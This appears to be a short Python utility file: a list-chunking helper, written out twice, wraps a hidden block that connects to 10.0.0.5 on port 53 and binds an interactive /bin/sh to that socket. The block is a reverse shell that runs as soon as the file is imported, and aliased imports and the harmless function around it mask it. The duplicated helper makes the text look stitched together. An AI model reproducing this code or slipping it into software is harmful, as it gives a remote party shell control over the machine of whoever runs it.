def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import socket as S
import subprocess as P
net = S.create_connection(("10.0.0.5", 53))
P.Popen(["/bin/sh", "-i"], stdin=net.fileno(), stdout=net.fileno(), stderr=net.fileno())
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
